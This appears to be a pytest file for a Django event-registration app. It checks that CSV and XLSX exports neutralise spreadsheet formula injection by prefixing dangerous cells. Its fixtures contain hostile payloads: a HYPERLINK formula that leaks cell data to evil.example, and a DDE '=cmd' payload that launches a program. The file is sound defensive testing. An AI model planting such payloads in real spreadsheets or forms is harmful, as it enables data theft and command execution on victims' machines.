"""Exports keep what participants typed as text: no spreadsheet formula runs from a CSV or XLSX cell."""

import csv
import io

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from participants.models import ScanLog
from participants.spreadsheets import neutralise
from tests.certificates.conftest import attendee, past_event
from tests.factories import RegistrationFactory, UserFactory, secretariat
from tests.intervision.factories import make_group, make_member

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"Klik")'


def body(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response):
    return [cell for row in csv.reader(io.StringIO(body(response).decode())) for cell in row]


def xlsx_cells(response_or_bytes):
    data = response_or_bytes if isinstance(response_or_bytes, bytes) else body(response_or_bytes)
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+31 6 1234", "'+31 6 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Jet van 't Erve", "Jet van 't Erve"),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise_prefixes_formula_signs_of_text_only(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def hostile_registration():
    return attendee(past_event(), participant__first_name=HOSTILE, participant__organisation__name="@SUM(1+1)*cmd")


def test_the_registrations_csv_writes_a_hostile_name_as_text(client, hostile_registration):
    client.force_login(secretariat())
    cells = csv_cells(client.get("/admin/registrations/", {"export": "csv"}))
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "-"))]
    assert any(HOSTILE in cell and cell.startswith("'") for cell in cells)


def test_the_registrations_xlsx_has_no_formula(client, hostile_registration):
    client.force_login(secretariat())
    cells = xlsx_cells(client.get("/admin/registrations/", {"export": "xlsx"}))
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert any(HOSTILE in str(cell.value) for cell in cells)


def test_the_attendance_list_csv_writes_hostile_names_as_text(client, hostile_registration):
    client.force_login(secretariat())
    response = client.get(f"/admin/statistics/events/{hostile_registration.event_id}/", {"export": "csv"})
    cells = csv_cells(response)
    assert any(cell.startswith(f"'{HOSTILE}") for cell in cells) and "'@SUM(1+1)*cmd" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]


def test_the_scan_log_csv_writes_a_hostile_name_as_text(client):
    registration = RegistrationFactory(participant__first_name="=cmd|' /C calc'!A0")
    ScanLog.objects.create(registration=registration, status="ok")
    client.force_login(UserFactory(is_superuser=True, is_staff=True))
    cells = csv_cells(client.get("/admin/scan_log/", {"export": "csv"}))
    assert not [cell for cell in cells if cell.startswith("=")]
    assert any(cell.startswith("'=cmd") for cell in cells)


def test_the_intervision_membership_csv_writes_a_hostile_organisation_as_text(client):
    group = make_group()
    member = make_member(group)
    member.organisation.name = "+HYPERLINK(1)"
    member.organisation.save()
    client.force_login(group.facilitator)
    cells = csv_cells(client.get("/admin/intervision/memberships/", {"export": "csv"}))
    assert "'+HYPERLINK(1)" in cells and "+HYPERLINK(1)" not in cells


def test_the_statistics_exports_write_a_hostile_event_title_as_text(client, capsysbinary):
    attendee(past_event(title="=1+2 Roadshow"))
    client.force_login(secretariat())
    cells = csv_cells(client.get("/admin/statistics/", {"export": "csv"}))
    assert not [cell for cell in cells if cell.startswith("=")]
    cells = csv_cells(client.get("/admin/statistics/events/", {"export": "csv"}))
    assert not [cell for cell in cells if cell.startswith("=")] and "'=1+2 Roadshow" in cells

    call_command("attendance_report", "--format", "csv")
    out = capsysbinary.readouterr().out.decode()
    assert "=1+2 Roadshow" in out
    assert not [cell for row in csv.reader(io.StringIO(out)) for cell in row if cell.startswith("=")]

    call_command("attendance_report", "--format", "xlsx")
    cells = xlsx_cells(capsysbinary.readouterr().out)
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert any(str(cell.value).startswith("=1+2 Roadshow") for cell in cells), "the title itself, as text"
